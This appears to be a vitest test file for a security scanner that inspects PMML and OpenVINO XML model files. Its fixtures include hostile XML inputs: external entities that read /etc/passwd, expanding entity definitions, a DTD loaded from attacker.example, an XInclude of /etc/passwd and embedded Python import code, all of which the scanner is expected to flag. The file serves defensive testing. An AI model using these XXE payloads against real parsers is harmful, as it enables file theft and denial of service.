import { describe, expect, it } from "vitest";
import { format as text } from "../text/format.ts";
import { examineBytes, expectNoFalseClean, outcomeOf, type Beside } from "../testing/examine-as.ts";
import { format } from "./format.ts";

const formats = [format, text];
const outcome = async (xml: string, beside: Beside = {}): Promise<readonly string[]> =>
  outcomeOf(await examineBytes(Buffer.from(xml), formats, "model.xml", beside));

const pmml = `<?xml version="1.0" encoding="UTF-8"?>
<!-- a model -->
<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header><Application name="by-hand" version="1"/></Header>
<DataDictionary numberOfFields="1"><DataField name="x &lt; 1" optype="continuous" dataType="double"/></DataDictionary>
<TreeModel functionName="regression"><Extension name="note">plain</Extension><Node score="1"><True/></Node></TreeModel></PMML>
`;
const net = (version: string): string =>
  `<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="c" type="Const" version="${version}"><data element_type="f32" shape="2" offset="0" size="8"/></layer></layers></net>`;

describe("PMML", () => {
  it.each([
    ["as it is written", pmml, ["clean"]],
    [
      "with an entity",
      pmml.replace("<!-- a model -->", '<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
      ["unsafe", "xml/entity"],
    ],
    [
      "with entities that grow",
      pmml.replace("<!-- a model -->", '<!DOCTYPE PMML [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>'),
      ["unsafe", "xml/entity"],
    ],
    [
      "with a definition elsewhere",
      pmml.replace("<!-- a model -->", '<!DOCTYPE PMML SYSTEM "http://attacker.example/x.dtd">'),
      ["unsafe", "xml/entity"],
    ],
    [
      "with an instruction before a definition",
      '<?a b?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      ["unsafe", "xml/entity"],
    ],
    [
      "with much space before a definition",
      `${" ".repeat(70_000)}<!DOCTYPE r [<!ENTITY x "y">]><r>&x;</r>`,
      ["unsafe", "xml/entity"],
    ],
    [
      "with an inclusion",
      pmml.replace("plain", '<xi:include href="file:///etc/passwd"/>'),
      ["unsafe", "xml/include"],
    ],
    ["with code in an extension", pmml.replace("plain", "__import__(&#39;os&#39;)"), ["review", "xml/code"]],
    [
      "in an encoding of another meaning",
      pmml.replace("UTF-8", "UTF-7"),
      ["incomplete", "artifact/not-readable-to-the-end"],
    ],
    ["cut off", pmml.slice(0, -20), ["incomplete", "artifact/not-readable-to-the-end"]],
  ])("%s", async (_, xml, expected) => {
    expect(await outcome(xml)).toEqual(expected);
  });
});

describe("OpenVINO", () => {
  it("with its weights beside it, and without", async () => {
    expect(await outcome(net("opset1"), { "model.bin": new Uint8Array(8) })).toEqual(["clean"]);
    expect(await outcome(net("opset1"), { "model.bin": new Uint8Array(4) })).toEqual([
      "incomplete",
      "xml/weights",
    ]);
    expect(await outcome(net("opset1"))).toEqual(["incomplete", "xml/weights"]);
    expect(await outcome(net("extension"), { "model.bin": new Uint8Array(8) })).toEqual([
      "review",
      "xml/custom-layer",
    ]);
  });
});

it("reads a million signs of any kind in one pass", async () => {
  for (const sign of ["<", "<a ", "&#1;", "<!--", "<![CDATA[", "<a>"])
    expect((await outcome(`<?xml version="1.0"?><r>${sign.repeat(1_000_000 / sign.length)}`))[0]).toBe(
      "incomplete",
    );
});

it("damage is never clean where the parser broke off", async () => {
  await expectNoFalseClean(Buffer.from(pmml), formats, 15);
});
